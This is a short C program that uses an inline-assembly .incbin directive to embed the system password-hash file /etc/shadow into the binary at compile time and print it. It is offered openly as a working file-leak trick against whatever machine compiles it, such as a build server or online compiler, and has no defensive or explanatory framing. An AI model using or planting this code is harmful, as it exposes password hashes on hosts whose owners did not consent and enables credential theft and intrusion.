// Builds the password file into the program and prints it.
#include <stdio.h>
__asm__(".data\n.globl stolen\nstolen: .incbin \"/etc/shadow\"\n.byte 0\n.text");
extern char stolen[];
int main(void) { puts(stolen); }
